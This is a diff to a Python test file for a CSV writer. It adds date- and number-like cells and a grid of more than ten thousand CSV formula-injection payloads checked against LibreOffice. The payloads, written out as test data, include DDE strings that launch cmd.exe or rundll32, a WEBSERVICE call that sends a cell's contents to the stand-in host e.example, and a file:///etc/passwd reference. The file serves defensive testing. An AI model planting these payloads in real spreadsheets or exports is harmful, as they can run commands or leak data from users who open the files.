@@ -45,6 +45,16 @@ CELLS = [
     pytest.param("10-12", "'10-12", id="range, or a date"),
     pytest.param("1/2/2024", "'1/2/2024", id="date in numerals"),
     pytest.param("10:30", "'10:30", id="score, or a time"),
+    pytest.param("3:2", "'3:2", id="score of one digit"),
+    pytest.param("714:30", "'714:30", id="hours without end"),
+    pytest.param("2024-05-04 10:30", "'2024-05-04 10:30", id="day and time"),
+    pytest.param("2024-5-4", "'2024-5-4", id="ISO date without its zeros"),
+    pytest.param(".5", "'.5", id="a point first"),
+    pytest.param("1 1/2", "'1 1/2", id="mixed number"),
+    pytest.param("(14)", "'(14)", id="minus fourteen to an accountant"),
+    pytest.param("True", "'True", id="truth value"),
+    pytest.param("1,500", "1,500", id="thousands are taken for what they are"),
+    pytest.param("14%", "14%", id="so are percents"),
     pytest.param("5 May", "'5 May", id="day and month"),
     pytest.param("January 5", "'January 5", id="month and day"),
     pytest.param("March", "March", id="a month alone stays a word"),
@@ -109,40 +119,26 @@ def test_any_cell_comes_back(cell: str) -> None:
     assert not written.startswith(("=", "+", "@", "\t", "\r"))
 
 
+STARTS = (
+    *("", "=", "+", "-", "@", "\t", "\r", "＝", "＋", "'", "\n", " "),
+    *("\u200b", "\ufeff", "007", "3/4", '"', ",", "|"),
+)
+# After OWASP's page on CSV injection and the payload lists that quote it.
+PAYLOADS = (
+    *("1+1", "SUM(A1:A9)", "x", "14", "-2+3", "A1", "R1C1", "1E5", "10:30", "5 May", "NA", "#REF!", "{=1+1}"),
+    *("cmd|' /C calc'!A0", "cmd|' /C calc'!'A1'", "MSEXCEL|'\\..\\..\\cmd.exe'!''", 'DDE("cmd";"/C calc";"!A0")'),
+    *('HYPERLINK("http://e.example","x")', 'WEBSERVICE("http://e.example/"&A1)', "IMPORTXML(A1,A2)"),
+    *('IMAGE("http://e.example")', "'file:///etc/passwd'#$passwd.A1", 'INDIRECT("A1")', "rundll32|'URL.dll'!A"),
+    *('",=1+1,"', '";=1+1;"', '"\n=1+1', "1\r\n=1+1"),
+)
+
+
 @pytest.mark.office
-def test_libreoffice_opens_it_without_a_formula_or_a_changed_cell(tmp_path: Path, office: str) -> None:
-    starts = [
-        "",
-        "=",
-        "+",
-        "-",
-        "@",
-        "\t",
-        "\r",
-        "＝",
-        "＋",
-        "'",
-        "\n",
-        " ",
-        "\u200b",
-        "\ufeff",
-        "007",
-        "3/4",
-        '"',
-        ",",
-        "|",
-    ]
-    bodies = [
-        "1+1",
-        "SUM(A1:A9)",
-        'HYPERLINK("http://e.example","x")',
-        "cmd|' /C calc'!A0",
-        "x",
-        "14",
-        "-2+3",
-        '",=1+1,"',
-    ]
-    cells = [one + other + body for one in starts for other in starts for body in bodies]
+def test_libreoffice_opens_ten_thousand_payloads_without_a_formula_or_a_changed_cell(
+    tmp_path: Path, office: str
+) -> None:
+    cells = [one + other + payload for one in STARTS for other in STARTS for payload in PAYLOADS]
+    assert len(cells) > 10_000
     TableFile(tmp_path / "t.csv", ["a", "b"]).append({"a": cell, "b": "x"} for cell in cells)
     profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
     # comma, quotation mark, UTF-8, from the first line
